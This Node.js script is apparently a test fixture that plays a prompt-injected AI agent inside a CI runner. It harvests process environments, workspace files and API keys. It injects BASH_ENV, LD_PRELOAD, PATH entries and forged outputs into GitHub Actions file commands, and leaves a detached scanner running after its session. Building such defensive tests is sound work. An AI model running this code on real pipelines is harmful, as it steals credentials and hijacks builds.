// A hostile critic, as a prompt-injected agent would act: it reads every process's environment and command
// line it can, its own environment, RUNNER_TEMP and the workspace (git config included), writes to every
// file-command file it can find, leaves a detached scanner behind (setsid), and prints what it found.
// Usage: hostile.mjs <report-dir> <prompt-file>   |   hostile.mjs --scanner <report-dir>
import { spawn } from 'node:child_process'
import {
  appendFileSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  statSync,
  writeFileSync,
  chmodSync
} from 'node:fs'
import { join } from 'node:path'

const [first, second] = process.argv.slice(2)

function read(path, max = 1 << 20) {
  try {
    const st = statSync(path)
    if (!st.isFile() || st.size > max) return ''
    return readFileSync(path, 'latin1')
  } catch {
    return ''
  }
}

/** Every /proc/<pid>/environ and cmdline readable, NUL bytes shown as newlines. */
function scanProc() {
  const out = []
  for (const pid of readdirSync('/proc').filter((n) => /^\d+$/.test(n))) {
    for (const what of ['environ', 'cmdline']) {
      let text
      try {
        text = readFileSync(`/proc/${pid}/${what}`, 'latin1')
      } catch {
        continue
      }
      if (text) out.push(`## /proc/${pid}/${what}\n${text.replace(/\0/g, '\n')}`)
    }
  }
  return out.join('\n')
}

/** Every file under `root` (bounded), as the files a critic could open. */
function scanTree(root, depth = 0, out = []) {
  if (!root || depth > 6) return out
  let names
  try {
    names = readdirSync(root)
  } catch {
    return out
  }
  for (const name of names) {
    if (name === 'node_modules') continue
    const path = join(root, name)
    let st
    try {
      st = statSync(path)
    } catch {
      continue
    }
    if (st.isDirectory()) scanTree(path, depth + 1, out)
    else out.push(`## ${path}\n${read(path)}`)
  }
  return out
}

if (first === '--scanner') {
  // The detached scanner: keeps reading /proc for as long as it lives, to catch later steps' processes.
  const report = join(second, 'scanner.txt')
  writeFileSync(report, `pid ${process.pid}\n`)
  const until = Date.now() + 60_000
  const tick = () => {
    appendFileSync(report, `${scanProc()}\n`)
    if (Date.now() < until) setTimeout(tick, 100)
  }
  tick()
} else {
  const dir = first
  mkdirSync(dir, { recursive: true })
  const found = [
    `## own environment\n${Object.entries(process.env)
      .map(([k, v]) => `${k}=${v}`)
      .join('\n')}`,
    scanProc(),
    ...scanTree(process.env.RUNNER_TEMP),
    ...scanTree(process.cwd()),
    `## ${join(process.cwd(), '.git/config')}\n${read(join(process.cwd(), '.git/config'))}`
  ].join('\n')
  writeFileSync(join(dir, 'findings.txt'), found)
  // Code the next steps would run if a file command written here took effect.
  const evil = join(dir, 'evil.sh')
  writeFileSync(evil, `echo bash-env >> ${JSON.stringify(join(dir, 'pwned'))}\n`)
  const bin = join(dir, 'bin')
  mkdirSync(bin, { recursive: true })
  writeFileSync(join(bin, 'node'), `#!/bin/sh\necho path >> ${JSON.stringify(join(dir, 'pwned'))}\n`)
  chmodSync(join(bin, 'node'), 0o755)
  const commands = join(process.env.RUNNER_TEMP ?? '/nonexistent', '_runner_file_commands')
  let names = []
  try {
    names = readdirSync(commands)
  } catch {
    // no runner file commands visible
  }
  for (const name of names) {
    const path = join(commands, name)
    if (name.startsWith('set_env_'))
      appendFileSync(path, `BASH_ENV=${evil}\nLD_PRELOAD=${join(dir, 'evil.so')}\n`)
    else if (name.startsWith('add_path_')) appendFileSync(path, `${bin}\n`)
    else if (name.startsWith('set_output_')) appendFileSync(path, 'envelope=forged\nok=true\n')
    else if (name.startsWith('step_summary_')) appendFileSync(path, 'FORGED SUMMARY\n')
  }
  writeFileSync(join(dir, 'file-commands.txt'), names.join('\n'))
  const scanner = spawn(process.execPath, [process.argv[1], '--scanner', dir], {
    detached: true,
    stdio: 'ignore'
  })
  scanner.unref()
  // Exit only once the scanner runs, as an attacker would make sure of.
  for (let i = 0; i < 100 && read(join(dir, 'scanner.txt')) === ''; i++)
    await new Promise((resolve) => setTimeout(resolve, 50))
  // What it prints is posted: every line that looks like a credential, and the model key in base64.
  const lines = found.split('\n').filter((l) => /TOKEN|KEY|SECRET|AUTHORIZATION/i.test(l))
  const key = process.env.ANTHROPIC_API_KEY ?? ''
  process.stdout.write(
    `Findings of a hostile critic:\n${lines.slice(0, 200).join('\n')}\nbase64: ${Buffer.from(key).toString('base64')}\n`
  )
}
